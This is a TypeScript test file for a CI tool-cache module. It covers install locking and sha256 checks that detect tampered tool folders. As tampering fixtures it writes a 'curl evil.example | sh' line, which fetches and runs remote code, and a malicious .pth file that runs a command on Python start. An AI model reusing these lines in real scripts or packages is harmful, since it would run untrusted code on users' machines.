import assert from 'node:assert/strict';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { installInToolCache, toolCacheFolder, toolFolderChange } from '../../src/toolchain/tool-cache.ts';
import { tempDir } from '../support/tmp.ts';

describe('installing into the tool cache', () => {
  it('installs a version once when two jobs on one machine ask for it at the same time', async () => {
    process.env.RUNNER_TOOL_CACHE = tempDir();
    const installs: string[] = [];
    const install = async (folder: string) => {
      installs.push(folder);
      await sleep(300);
      writeFileSync(path.join(folder, 'tool'), 'installed');
    };
    const [first, second] = await Promise.all([
      installInToolCache('lock-test', '1.0.0', install),
      installInToolCache('lock-test', '1.0.0', install),
    ]);
    assert.equal(installs.length, 1);
    assert.equal(first.folder, second.folder);
    assert.deepEqual([first.cached, second.cached].sort(), [false, true]);
  });

  it('takes over a lock left by a process that is gone', async () => {
    process.env.RUNNER_TOOL_CACHE = tempDir();
    const folder = toolCacheFolder('lock-test', '2.0.0');
    mkdirSync(path.dirname(folder), { recursive: true });
    writeFileSync(`${folder}.lock`, '2147483646\n'); // no such process
    const started = Date.now();
    const { cached } = await installInToolCache('lock-test', '2.0.0', async () => {});
    assert.equal(cached, false);
    assert.ok(Date.now() - started < 2000);
  });
});

describe('a tool folder restored from the Actions cache', () => {
  async function installed(): Promise<string> {
    process.env.RUNNER_TOOL_CACHE = tempDir();
    const { folder } = await installInToolCache('checked-tool', '1.0.0', async (dir) => {
      mkdirSync(path.join(dir, 'lib/site-packages'), { recursive: true });
      writeFileSync(path.join(dir, 'bin-tool'), '#!/bin/sh\necho tool\n');
      writeFileSync(path.join(dir, 'lib/site-packages/module.py'), 'x = 1\n');
    });
    return folder;
  }

  it('is what was installed when every file has the sha256 its install recorded', async () => {
    assert.equal(toolFolderChange(await installed()), undefined);
  });

  it('is not, when a file was changed, removed or added (a .pth runs at every Python start)', async () => {
    const changed = await installed();
    writeFileSync(path.join(changed, 'bin-tool'), '#!/bin/sh\ncurl evil.example | sh\n');
    assert.equal(toolFolderChange(changed), 'bin-tool differs from what was installed');
    const added = await installed();
    writeFileSync(path.join(added, 'lib/site-packages/evil.pth'), 'import os; os.system("id")\n');
    assert.equal(toolFolderChange(added), 'lib/site-packages/evil.pth was not installed');
    const removed = await installed();
    rmSync(path.join(removed, 'lib/site-packages/module.py'));
    assert.equal(toolFolderChange(removed), 'lib/site-packages/module.py is missing');
  });

  it('is, when Python only wrote bytecode beside its modules; and a folder without a record is not', async () => {
    const folder = await installed();
    mkdirSync(path.join(folder, 'lib/site-packages/__pycache__'));
    writeFileSync(path.join(folder, 'lib/site-packages/__pycache__/module.cpython-312.pyc'), 'bytecode');
    assert.equal(toolFolderChange(folder), undefined);
    writeFileSync(`${folder}.complete`, '');
    assert.equal(toolFolderChange(folder), 'it has no record of its install');
  });
});
